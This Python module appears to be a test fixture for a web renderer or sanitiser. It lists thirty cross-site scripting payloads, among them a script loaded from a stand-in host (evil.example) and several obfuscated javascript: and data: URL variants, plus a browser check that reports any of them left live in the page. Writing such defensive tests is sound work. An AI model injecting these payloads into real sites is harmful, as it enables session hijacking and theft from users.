"""Thirty classic ways to smuggle a script into a page, each of which would set ``window.pwned`` or ask ``alert``."""

from __future__ import annotations

from typing import Any

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>window.pwned=1</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=window.pwned=1//",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href=' &#106;avascript:alert(1)'>click</a>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext></p><img src=x onerror=alert(1)></math>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<style>@import 'javascript:alert(1)';</style><b style=background:url(javascript:alert(1))>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "</title></textarea></style></template><script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}${alert(1)}",
]

#: In the page: whatever of an attack became more than text.
_LIVE = """() => {
  const bad = [];
  for (const e of document.querySelectorAll('main *')) {
    if (['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'STYLE', 'VIDEO', 'MATH', 'BODY'].includes(e.tagName.toUpperCase()))
      bad.push(e.outerHTML);
    for (const a of e.attributes) {
      if (a.name.startsWith('on') || a.name === 'srcdoc' || a.name === 'style') bad.push(e.outerHTML);
      if (['href', 'src', 'action', 'data'].includes(a.name) && /^\\s*(javascript|data|vbscript):/i.test(a.value))
        bad.push(e.outerHTML);
    }
  }
  if (window.pwned) bad.push('pwned');
  return bad;
}"""


def live_attacks(page: Any) -> list[str]:
    """What in a page would run, or did."""
    found: list[str] = page.evaluate(_LIVE)
    return found
